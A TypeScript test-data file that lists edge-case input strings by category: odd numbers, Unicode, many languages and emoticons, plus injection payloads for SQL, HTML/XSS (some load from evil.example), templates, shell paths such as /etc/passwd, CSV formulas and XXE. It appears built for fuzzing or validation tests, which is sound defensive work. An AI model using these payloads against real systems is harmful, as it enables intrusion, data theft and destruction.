/** The texts that are written by hand, one a line, by what they try. */

const lines = (text: string): readonly string[] => text.split('\n').filter((line) => line !== '')

export const writtenStrings: Readonly<Record<string, readonly string[]>> = {
  'words that mean something to a machine': lines(String.raw`
undefined
null
NULL
(null)
nil
None
true
FALSE
yes
no
on
off
NaN
Infinity
-Infinity
constructor
__proto__
prototype
hasOwnProperty
toString
valueOf
__defineGetter__
then
length
id
version
status
createdBy
me
old
this
today
administrators
anyone
CON
PRN
NUL
COM1
LPT9
aux.txt
\N
\0
default
DEFAULT
rowid
select
`),
  'numbers that are text': lines(`
0
-0
00
007
1.0
1,000.00
1.000,00
1e3
1E400
-1e-400
0x1F
0b101
0o17
9007199254740993
-9223372036854775809
18446744073709551616
1/0
0/0
1_000
1 000
١٢٣
１２３
½
²
−5
+31 6 1234 5678
1.2.3
127.0.0.1
0.1.2.3.4
2026-02-30
0000-00-00
24:60
1970-01-01T00:00:00Z
12.50 EUR
€ 12,50
25 %
.5
5.
1..2
--1
NaN.0
`),
  'signs of the keyboard': lines(String.raw`
,./;'[]\-=
<>?:"{}|_+
!@#$%^&*()~
"
'
''
""
'"'
“quoted” ‘text’
«guillemets» „German“
|
||
&
&&
;
--
/*
*/
#
@
^
~
\
\\
\"
\'
!
…
‰ ¼ ± § ¶ © ® ™
<
>
(
)
`),
  'letters whose case is a question': lines(`
İstanbul ısı
STRASSE straße ẞ
ſtop
Ǆ ǅ ǆ
ΣΊΣΥΦΟΣ σίσυφος
Kelvin K
ﬀ ﬁ ﬂ ﬃ ﬄ
ŉ
ᏣᎳᎩ ꮳꮃꭹ
Åse ÅSE
ÞÓRR þórr
ǰ
`),
  'languages of the world': lines(`
Zażółć gęślą jaźń
Příliš žluťoučký kůň
Ærøskøbing på Ærø
El pingüino Wenceslao
Où est Noël, à Nîmes ?
Öffentlicher Übermut
Þetta er ágætt
Съешь ещё этих булок
Жовтий їжак
Καλημέρα κόσμε
שלום עולם
مرحبا بالعالم
سلام دنیا
ہیلو دنیا
नमस्ते दुनिया
ওহে বিশ্ব
வணக்கம் உலகம்
ഹലോ ലോകം
ສະບາຍດີ
สวัสดีชาวโลก
မင်္ဂလာပါ
ជំរាបសួរ
გამარჯობა
Բարեւ աշխարհ
ሰላም ልዑል
ᐊᐃᓐᖓᐃ
你好，世界
繁體中文字
こんにちは世界
ｶﾀｶﾅ と カタカナ
안녕하세요 세계
Xin chào thế giới
Dünyaya merhaba
Saluton al ĉiuj ĝojaj homoj
ᚠᛇᚻ ᛒᛦᚦ
𐤀𐤋𐤐
田中さんにあげて下さい
ثم نفس سقطت 123 abc
abc שלום 123
א1ב2ג3
`),
  'faces and drawings': lines(String.raw`
¯\_(ツ)_/¯
ヽ(＾Д＾)ﾉ
(╯°□°）╯︵ ┻━┻
ಠ_ಠ
( ͡° ͜ʖ ͡°)
(｡◕‿◕｡)
˙ɐnbᴉlɐ ɐuƃɐɯ
ʍopǝpᴉsdn
Ｆｕｌｌ ｗｉｄｔｈ
ⓒⓘⓡⓒⓛⓔⓓ
█▓▒░
┌─┐│└┘
⠃⠗⠁⠊⠇⠇⠑
`),
  SQL: lines(String.raw`
' OR 1=1 --
'; DROP TABLE "Note"; --
"; DROP TABLE "Note"; --
1; SELECT * FROM sqlite_master
' UNION SELECT password FROM ninefold_account --
') OR ('a'='a
admin'--
' AND (SELECT count(*) FROM "User") > 0 --
%
_
%%%
a%b_c
\%
' || 'x
x' ESCAPE '\
NULL; --
char(39)
0x27204f5220313d31
$1
?
?1
:name
@name
'' '' ''
/*!50000 SELECT*/ 1
WAITFOR DELAY '0:0:5'
pg_sleep(5)
randomblob(1000000000)
json_extract('$')
MATCH 'a*'
"a" NEAR "b"
col:term AND NOT
`),
  'HTML and scripts': lines(String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
"><script>alert(2)</script>
'><img src=x onerror=alert(3)>
<img src=x onerror="alert(4)">
<svg onload=alert(5)>
<svg><script>alert&#40;6)</script>
<iframe src="javascript:alert(7)"></iframe>
<a href="javascript:alert(8)">x</a>
<a href="java	script:alert(9)">x</a>
<body onload=alert(10)>
<input autofocus onfocus=alert(11)>
<details open ontoggle=alert(12)>
<math><mi xlink:href="data:x,<script>alert(13)</script>">
<style>*{background:url(javascript:alert(14))}</style>
<!--<img src="--><img src=x onerror=alert(15)//">
<![CDATA[<script>alert(16)</script>]]>
</textarea><script>alert(17)</script>
</title><script>alert(18)</script>
</script><script>alert(19)</script>
<plaintext>
<template><img src=x onerror=alert(20)></template>
<b>bold</b>
<form action=//evil.example><button>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example">
<object data="data:text/html,<script>alert(21)</script>">
&lt;script&gt;
&#x3C;script&#x3E;
&amp;lt;
&nbsp;
javascript:alert(22)
data:text/html;base64,PHNjcmlwdD4=
vbscript:msgbox(1)
onmouseover=alert(23)
" onmouseover="alert(24)
{{constructor.constructor('alert(25)')()}}
<div style="width:expression(alert(26))">
＜script＞alert(27)＜/script＞
<scr<script>ipt>
\u003cscript\u003e
\x3cscript\x3e
`),
  'templates and formats': lines(String.raw`
{number}
{owner.name}
{{7*7}}
{{ me.password }}
${7 * 7}
#{7*7}
<%= 7*7 %>
<?php echo 1; ?>
[[7*7]]
{% raw %}
{0}
{}
{
}
{{{{
%s%s%s%n
%x %d %p
%00
%0a%0d
%2e%2e%2f
%E0%A4%A
$HOME
$(1+1)
@{x}
*{7*7}
~{x}
{"$gt": ""}
{$where: '1'}
{!x!}
$&
$1$2
$$
$'
\1
`),
  'expressions of the language itself': lines(String.raw`
true or true
text == text
User.exists(u, u.email != '')
me.roles
size(text) > 0 and not false
amount > 1000 EUR
30 days
(((((1)))))
'unclosed
has(x) ? 1 : 2
x.map(y, y)
`),
  'shells and paths': lines(String.raw`
$(touch /tmp/x)
; ls -la
| cat /etc/passwd
&& shutdown
> /dev/null
!!
*.*
~/.ssh/id
-rf /
--help
-e
../../../etc/passwd
..\..\windows\win.ini
/dev/null
file:///etc/hosts
\\server\share
C:\
C:\nul
a/b/c
.
..
.env
a:b
name.txt.exe
x.pdf%00.exe
//evil.example/
https://user:pw@example.org:99999/?a=1&b=2#c
http://[::1]/
http://169.254.169.254/
mailto:x@example.org
`),
  'data formats': lines(String.raw`
{"a": 1}
[1, 2, 3]
{"__proto__": {"admin": true}}
{'a': 1}
[
"\ud800"
=1+1
=HYPERLINK("http://evil.example","x")
@SUM(1+1)
+1+1
-1+1
=cmd|' /C calc'!A0
"a","b"
a;b;c
a,b"c,d
--- # yaml
!!js/function "x"
&a [*a, *a]
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]><x>&e;</x>
<xml/>
BEGIN:VCARD
key=value
[section]
(a (b . c))
`),
  'headers and mail': lines(String.raw`
Set-Cookie: a=b
Content-Length: 0
a%0d%0aSet-Cookie: x=y
Bcc: all@example.org
.QUIT
From root
"very.(),:;<>[]\".odd"@example.org
=?utf-8?q?x?=
`),
  patterns: lines(String.raw`
(a+)+$
(.*)*
[a-z
\d+
^$
(?<x>
a{1000000}
.*.*.*.*x
`),
  Markdown: lines(String.raw`
# Heading
| a | b |
[link](javascript:alert(1))
![img](x "onerror=alert(1)")
**bold** _it_ ~~no~~
> quote
- item
1. one
***
&copy;
<http://example.org>
[x]: /y
`),
}

/** What one line cannot hold. */
export const linedStrings: readonly string[] = ['a\r\nb', '\na', 'a\n', 'a\n\n\n\nb']
